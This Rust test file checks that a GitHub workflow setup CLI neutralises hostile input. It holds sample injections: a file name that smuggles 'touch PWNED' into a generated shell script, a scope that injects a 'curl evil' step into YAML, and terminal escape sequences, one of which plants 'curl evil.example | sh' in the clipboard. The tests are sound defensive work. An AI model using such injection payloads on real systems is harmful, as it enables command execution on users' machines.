//! Hostile text through the built binary against the in-process sandbox (issue 22): a workflow
//! file name that would start a command in `plan --format sh`, a scope that would break the
//! generated YAML, terminal sequences in GitHub variables and workflow lines.

mod common;

use std::process::Output;

use cawiz_sandbox::SandboxHandle;

use common::arrange::{BROKEN_WORKFLOW as BROKEN, set_variable};
use common::cli::{Cli, assert_no_panic, assert_ok, text};

/// A git working tree with a setup for octo-org/widgets.
async fn tree(sb: &SandboxHandle) -> Cli {
    let cli = Cli::new(sb);
    common::git_init(cli.dir.path());
    assert_ok(
        &cli.run(&["init", "--non-interactive", "--github", "octo-org/widgets"])
            .await,
    );
    cli
}

fn write_workflow(cli: &Cli, name: &str, content: &str) {
    let dir = cli.dir.path().join(".github/workflows");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(dir.join(name), content).expect("write workflow");
}

/// Control characters (and bidi overrides) in `bytes`, line feeds aside.
fn controls(bytes: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(bytes)
        .chars()
        .filter(|c| *c != '\n' && cawiz::escape::is_unsafe(*c))
        .collect()
}

fn assert_clean(out: &Output) {
    assert_no_panic(out);
    assert_eq!(controls(&out.stdout), Vec::<char>::new(), "{}", text(out));
    assert_eq!(controls(&out.stderr), Vec::<char>::new(), "{}", text(out));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_name_with_line_breaks_stays_inside_the_plan_scripts_comments_and_words() {
    let sb = common::start_sandbox("complete").await;
    let cli = tree(&sb).await;
    write_workflow(&cli, "x\ntouch PWNED\n.yml", BROKEN);
    let out = cli.run(&["plan", "--format", "sh"]).await;
    assert_clean(&out);
    let script = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        script.contains("x\\ntouch PWNED\\n.yml"),
        "the name is shown escaped:\n{script}"
    );
    for line in script.lines() {
        assert!(!line.starts_with("touch"), "{line:?} in\n{script}");
    }
    // The script parses, and the write step names the real file (printf turns the escapes back).
    let check = std::process::Command::new("sh")
        .args(["-n", "-c", &script])
        .output()
        .expect("sh -n");
    assert!(check.status.success(), "{check:?}\n{script}");
    let write = script
        .lines()
        .find(|l| l.contains("cawiz workflow print >"))
        .expect("the write step");
    let target = write.rsplit_once("> ").expect("a redirection").1;
    let named = std::process::Command::new("sh")
        .args(["-c", &format!("printf %s {target}")])
        .output()
        .expect("sh");
    assert_eq!(
        String::from_utf8_lossy(&named.stdout),
        ".github/workflows/x\ntouch PWNED\n.yml"
    );
    // The text plan shows the same name escaped, on one line.
    let out = cli.run(&["plan"]).await;
    assert_clean(&out);
    let plan = String::from_utf8_lossy(&out.stdout);
    assert!(plan.contains("x\\ntouch PWNED\\n.yml"), "{plan}");
    assert!(!plan.lines().any(|l| l.starts_with("touch")), "{plan}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_scope_with_a_line_break_is_refused_at_its_field() {
    let sb = common::start_sandbox("empty").await;
    let cli = Cli::new(&sb);
    let out = cli
        .run(&[
            "init",
            "--non-interactive",
            "--github",
            "octo-org/widgets",
            "--scope",
            "environment:x\n      - run curl evil",
        ])
        .await;
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_clean(&out);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("environment"), "{err}");
    assert!(err.contains("control characters"), "{err}");
    assert!(!cli.state().exists(), "no setup recorded");
}

const OSC_TITLE: &str = "\x1b]0;pwned\x07";
const OSC_CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";

#[tokio::test(flavor = "multi_thread")]
async fn terminal_sequences_in_variables_never_reach_the_terminal() {
    let sb = common::start_sandbox("complete").await;
    let cli = tree(&sb).await;
    set_variable(&sb, "AWS_REGION", OSC_TITLE).await;
    set_variable(&sb, "AWS_ROLE_ARN", OSC_CLIPBOARD).await;
    let status = cli.run(&["status"]).await;
    assert_clean(&status);
    let shown = String::from_utf8_lossy(&status.stdout);
    assert!(
        shown.contains("\\x1b]0;pwned\\x07"),
        "shown escaped:\n{shown}"
    );
    let doctor = cli.run(&["doctor", "oidc"]).await;
    assert_clean(&doctor);
    let shown = String::from_utf8_lossy(&doctor.stdout);
    assert!(shown.contains("\\x1b]52;c;"), "shown escaped:\n{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn json_output_keeps_the_value_and_no_raw_control_character() {
    let sb = common::start_sandbox("complete").await;
    let cli = tree(&sb).await;
    let hostile = "us-east-1\u{9b}2J\u{202e}";
    set_variable(&sb, "AWS_REGION", hostile).await;
    let out = cli.run(&["status", "--json"]).await;
    assert_clean(&out);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let all = doc.to_string();
    assert!(all.contains(hostile), "the value itself survives: {all}");
}

#[tokio::test(flavor = "multi_thread")]
async fn workflow_lint_shows_escapes_in_lines_and_values() {
    let sb = common::start_sandbox("complete").await;
    let cli = tree(&sb).await;
    // A YAML escape (the value holds ESC and BEL) and a raw ESC in a comment.
    let hostile = BROKEN
        .replace("aws-region: eu-west-1", "aws-region: \"\\e]0;pwned\\a\"")
        .replace("name: Publish", "name: Publish # \x1b[2J\x1b]52;c;eA==\x07");
    write_workflow(&cli, "publish.yml", &hostile);
    let out = cli.run(&["workflow", "lint"]).await;
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_clean(&out);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(
        shown.contains("]0;pwned"),
        "the value is shown, escaped:\n{shown}"
    );
    let out = cli.run(&["workflow", "write"]).await;
    assert_clean(&out);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(
        shown.contains("\\x1b[2J"),
        "the diff shows the line escaped:\n{shown}"
    );
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_github_directory_linked_out_of_the_tree_is_never_written_through() {
    let sb = common::start_sandbox("complete").await;
    let cli = tree(&sb).await;
    let outside = tempfile::tempdir().expect("outside");
    std::os::unix::fs::symlink(outside.path(), cli.dir.path().join(".github")).expect("link");
    let out = cli
        .run(&["workflow", "write", "--yes", "--commit", "none"])
        .await;
    assert_clean(&out);
    let written: Vec<_> = walk(outside.path());
    assert_eq!(written, Vec::<String>::new(), "{}", text(&out));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("outside the repository"),
        "{}",
        text(&out)
    );
}

/// Every file under `dir`, relative.
fn walk(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("read dir").flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path.display().to_string());
        }
    }
    out
}
